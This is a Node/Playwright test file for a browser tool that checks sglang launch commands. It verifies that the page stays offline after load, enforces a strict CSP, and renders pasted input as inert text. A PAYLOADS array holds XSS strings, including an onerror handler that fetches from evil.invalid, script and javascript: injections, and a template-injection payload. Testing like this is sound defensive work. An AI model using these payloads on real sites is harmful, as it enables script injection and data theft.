// Offline and injection-proof: no request after load, and pasted HTML/script/javascript: in the
// command, the YAML pane, the builder and the URL hash is shown as text, never run.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { launch, newPage, renders, pasteCommand, hashUrl, cleanState } from './harness.mjs';

let env;
before(async () => {
  env = await launch();
});
after(async () => {
  await env?.close();
});

/** Whether `url` is one of the page's own files of rule explanations, which the cards fetch when
 * they first show a rule of that family (the wasm goes without the texts): rules/explanations/<family>.json. */
const isRuleExplanations = (url) => /^rules\/explanations\/[A-Z]+\.json$/.test(url.slice(env.server.url.length)) && url.startsWith(env.server.url);

/** Wait until the page has loaded and gone quiet; return the request count at that point. */
async function settle(page, rec) {
  await page.waitForLoadState('load');
  await renders(page, 1);
  await page.waitForLoadState('networkidle');
  return rec.requests.length;
}

test('no request leaves the page after load (page, builder, fixes, settings, copy)', async () => {
  const { page, context, rec } = await newPage(env);
  try {
    await page.goto(env.server.url);
    const atLoad = await settle(page, rec);
    // Before load: only the page's own files from the local server.
    for (const r of rec.requests) assert.ok(r.url.startsWith(env.server.url), `unexpected request ${r.url}`);
    await pasteCommand(page, 'python -m sglang.launch_server --model-path https://example.com/model --served-model-name http://example.org/x.png --tp 2');
    await page.locator('#yaml-box > summary').click();
    await page.locator('#yaml').fill('model-path: https://example.net/y\n');
    await page.locator('#gpu').selectOption('mi300x');
    await page.locator('#builder > summary').click();
    await page.locator('[data-flag="--tp-size"]').fill('4');
    await page.locator('#flag-search').fill('speculative');
    const apply = page.getByRole('button', { name: /^Apply:/ });
    if (await apply.count()) await apply.first().click();
    await page.locator('#share').click();
    await page.locator('#copy').click();
    await page.waitForTimeout(700);
    // Chromium fetches the page's own favicon again whenever the URL's hash changes (and the
    // tests' request interception turns its cache off): that is the browser, not the page. The
    // builder shows the help texts of its release's flags, which the worker fetches from the
    // page's own folder when they are first shown (the wasm goes without them): that file only;
    // and so do the cards the explanations of their rules' families (rules/explanations/).
    const all = rec.requests.slice(atLoad).map((r) => r.url);
    assert.ok(all.includes(new URL('help/0.5.23.json', env.server.url).href), 'the builder fetched its help texts');
    const after = all.filter((u) => u !== new URL('favicon.svg', env.server.url).href && u !== new URL('help/0.5.23.json', env.server.url).href && !isRuleExplanations(u));
    assert.deepEqual(after, [], 'requests after load');
    assert.deepEqual(rec.external, []);
    assert.deepEqual(await cleanState(page, rec), { csp: [], errors: [], external: [], dialogs: [] });
  } finally {
    await context.close();
  }
});

test('no request leaves the docs example after load', async () => {
  const { page, context, rec } = await newPage(env);
  try {
    await page.goto(env.server.url + 'docs-example.html');
    await page.locator('sglang-preflight#good .verdict:not(.pending)').waitFor({ timeout: 20000 });
    await page.locator('sglang-preflight#bad .verdict:not(.pending)').waitFor({ timeout: 20000 });
    await page.waitForLoadState('networkidle');
    const atLoad = rec.requests.length;
    for (const r of rec.requests) assert.ok(r.url.startsWith(env.server.url), `unexpected request ${r.url}`);
    await page.evaluate(() => document.querySelector('#good').setAttribute('command', 'python -m sglang.launch_server --model-path http://example.com/m'));
    await page.waitForTimeout(500);
    // The new finding's card fetches its rule family's explanations from the widget's folder.
    const after = rec.requests.slice(atLoad).map((r) => r.url);
    assert.ok(after.some(isRuleExplanations), `the card fetched its rule's explanation: ${after.join(' ')}`);
    assert.deepEqual(after.filter((u) => !isRuleExplanations(u)), []);
    assert.deepEqual(await cleanState(page, rec), { csp: [], errors: [], external: [], dialogs: [] });
  } finally {
    await context.close();
  }
});

const PAYLOADS = [
  '<img src=x onerror="window.__pwned=1;fetch(\'http://evil.invalid/1\')">',
  '<script>window.__pwned=2</script>',
  'javascript:window.__pwned=3',
  '"><svg onload="window.__pwned=4"><a href="javascript:window.__pwned=5">x</a>',
  '<iframe src="http://evil.invalid/2"></iframe>',
  '{{constructor.constructor("window.__pwned=6")()}}',
];

async function assertInert(page, rec, where) {
  const state = await page.evaluate(() => ({
    pwned: window.__pwned,
    injected: document.querySelectorAll('img, svg, iframe, object, embed, #cards script, #backdrop script, a[href^="javascript:" i]').length,
    handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name))).length,
    // Only the page's own two module scripts, by file name.
    scripts: [...document.scripts].map((s) => (s.getAttribute('src') || `inline: ${s.textContent.slice(0, 40)}`)),
  }));
  assert.deepEqual(state, { pwned: undefined, injected: 0, handlers: 0, scripts: ['./boot.js', './app.js'] }, where);
  assert.deepEqual(rec.external, [], where);
  assert.deepEqual(rec.dialogs, [], where);
}

test('HTML, script and javascript: payloads in command, YAML, builder and hash stay text', async () => {
  const { page, context, rec } = await newPage(env);
  try {
    // 1. In the URL hash, for every key.
    for (const p of PAYLOADS) {
      await page.goto('about:blank');
      const url = hashUrl(env, { cmd: `python -m sglang.launch_server --model-path '${p}' ${p}`, yaml: `${p}: ${p}`, gpu: p, gpus: p, v: p });
      await page.goto(url);
      await renders(page, 1);
      await assertInert(page, rec, `hash ${p}`);
      assert.ok((await page.locator('#command').inputValue()).includes(p));
      assert.equal(await page.locator('#yaml').inputValue(), `${p}: ${p}`);
      assert.ok((await page.locator('#backdrop').textContent()).includes(p), 'the payload is in the backdrop as text');
    }
    // 2. Pasted into the command and the YAML pane, live.
    await page.goto(env.server.url);
    await renders(page, 1);
    await page.locator('#yaml-box > summary').click();
    for (const p of PAYLOADS) {
      await pasteCommand(page, `python -m sglang.launch_server --model-path x --${p} --tp ${p}\n${p}`);
      await page.locator('#yaml').fill(`${p}:\n  - ${p}`);
      await page.waitForTimeout(50);
      await assertInert(page, rec, `pasted ${p}`);
    }
    // 3. Into builder fields.
    await page.locator('#builder > summary').click();
    await page.locator('[data-flag="--served-model-name"]').waitFor();
    for (const p of PAYLOADS) {
      await page.locator('#flag-search').fill('');
      await page.locator('[data-flag="--served-model-name"]').fill(p);
      await page.locator('#flag-search').fill(p);
      await page.waitForTimeout(50);
      await assertInert(page, rec, `builder ${p}`);
      assert.ok((await page.locator('#command').inputValue()).includes('--served-model-name '));
    }
    assert.deepEqual(await cleanState(page, rec), { csp: [], errors: [], external: [], dialogs: [] });
  } finally {
    await context.close();
  }
});

test('a strict CSP is in force: no inline script, no inline handlers, wasm allowed', async () => {
  const { page, context, rec } = await newPage(env);
  try {
    await page.goto(env.server.url);
    await renders(page, 1);
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
    const tokens = csp.split(/[\s;]+/);
    for (const bad of ["'unsafe-inline'", "'unsafe-eval'", '*', 'data:', 'http:', 'https:']) assert.ok(!tokens.includes(bad), `CSP allows ${bad}`);
    const inline = await page.evaluate(() => [...document.scripts].filter((s) => !s.src).length);
    assert.equal(inline, 0);
    // An injected inline script would be refused by the browser.
    const ran = await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__inline = 1';
      document.body.append(s);
      return window.__inline;
    });
    assert.equal(ran, undefined);
    await page.evaluate(() => window.__cspViolations.splice(0));
    assert.deepEqual(await cleanState(page, rec), { csp: [], errors: [], external: [], dialogs: [] });
  } finally {
    await context.close();
  }
});

test('the shipped page and widget carry no debug or test hooks', async () => {
  const { page, context, rec } = await newPage(env);
  try {
    await page.goto(env.server.url);
    await renders(page, 1);
    // Globals the page adds to a window (a blank frame has the browser's own).
    const added = await page.evaluate(() => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const builtin = new Set(Object.getOwnPropertyNames(frame.contentWindow));
      frame.remove();
      return Object.getOwnPropertyNames(window).filter((n) => !builtin.has(n));
    });
    assert.deepEqual(added.filter((n) => /preflight|hang|bench|debug/i.test(n)), [], `globals the page adds: ${added.join(', ')}`);
    // Every script the page loaded (its modules, the worker's): none holds a hook tests could call.
    const sources = await page.evaluate(async () => {
      const urls = [...new Set(performance.getEntriesByType('resource').map((e) => e.name).filter((u) => /\.js($|\?)/.test(u)))];
      urls.push(new URL('widget.js', location.href).href);
      return Promise.all(urls.map((u) => fetch(u).then((r) => r.text())));
    });
    assert.ok(sources.length >= 4, `scripts seen: ${sources.length}`);
    for (const src of sources) assert.doesNotMatch(src, /hangNext|hangNextCheck|__preflight(?!EarlyWorker)|case 'bench'|op === 'bench'/);
    assert.deepEqual(await cleanState(page, rec), { csp: [], errors: [], external: [], dialogs: [] });
  } finally {
    await context.close();
  }
});
